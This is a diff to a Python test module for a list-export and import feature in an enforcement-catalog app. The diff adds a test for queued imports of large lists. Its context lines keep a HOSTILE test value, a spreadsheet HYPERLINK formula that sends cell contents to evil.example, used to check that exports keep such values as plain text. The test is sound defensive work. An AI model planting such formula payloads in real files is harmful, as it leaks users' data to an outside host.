@@ -1,7 +1,7 @@
 """The list export writes stored text as text (issue 9 item 7): a value that a spreadsheet would run as a
 formula stays a string cell, a control character in a field no longer fails the export, and the export
 imports back to the same draft. Values are stored through the ORM, as a draft written before any input rule
-refused such characters would hold them. The import shares the officers' limits (tests/agencies)."""
+refused such characters would hold them. The import shares the officers' limits and queue (tests/agencies)."""
 
 from __future__ import annotations
 
@@ -10,9 +10,10 @@ import zipfile
 
 import openpyxl
 from tests.agencies.test_import_limits import rezip
-from tests.catalog.test_catalog_import import upload
+from tests.catalog.test_catalog_import import ITEM_HEADERS, item_row, upload, workbook
 
 from zhifa.catalog.models import EnforcementItem
+from zhifa.core import sweeps
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
@@ -73,3 +74,19 @@ def test_the_unpacked_limit_is_a_setting_and_applies_to_the_catalog_import(cat, 
 
     assert response.status_code == 422
     assert "超过1 MB的上限" in response.content.decode()
+
+
+def test_a_big_list_import_is_queued_and_run_by_the_worker(cat, editor, settings, tmp_path):
+    settings.ZHIFA_IMPORT_QUEUE_ROWS = 2
+    settings.ZHIFA_IMPORT_DIR = tmp_path
+    rows = [item_row(f"ZR-CF-00{i}", f"事项{i}") for i in range(1, 4)]
+
+    response = upload(editor, cat.cast.nr, "items", workbook("行政执法事项清单", ITEM_HEADERS, rows))
+
+    assert response.status_code == 302
+    assert not EnforcementItem.objects.exists()
+    sweeps.run(["imports"])
+    page = editor.get(response["Location"]).content.decode()
+    assert "共3项：新增3项" in page
+    assert f'href="/catalog/a/{cat.cast.nr.pk}/items/"' in page
+    assert EnforcementItem.objects.filter(list__agency=cat.cast.nr).count() == 3
